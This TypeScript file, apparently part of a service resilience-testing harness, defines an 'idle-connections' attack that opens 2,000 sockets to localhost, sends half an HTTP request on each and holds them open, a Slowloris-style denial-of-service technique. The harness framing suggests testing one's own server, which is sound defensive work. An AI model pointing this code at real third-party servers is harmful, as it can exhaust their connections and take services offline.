import { connect, type Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import { pause } from '../harness/wait.ts';

const CONNECTIONS = 2_000;

export const idleConnections: Attack = {
  name: 'idle-connections',
  who: 'anybody',
  does: `opens ${CONNECTIONS.toLocaleString('en')} connections, sends half a request on each, and waits`,
  async run({ access, signal, floodMs }) {
    const { port, host } = new URL(access.url);
    const sockets: Socket[] = [];
    for (let index = 0; index < CONNECTIONS; index++) {
      const socket = connect({ host: '127.0.0.1', port: Number(port) });
      socket.on('error', () => undefined);
      socket.write(`GET /v1/sessions HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
      sockets.push(socket);
      if (index % 100 === 99) await pause(10, signal);
    }
    await pause(floodMs, signal);
    for (const socket of sockets) socket.destroy();
    return `${CONNECTIONS} half requests`;
  },
};
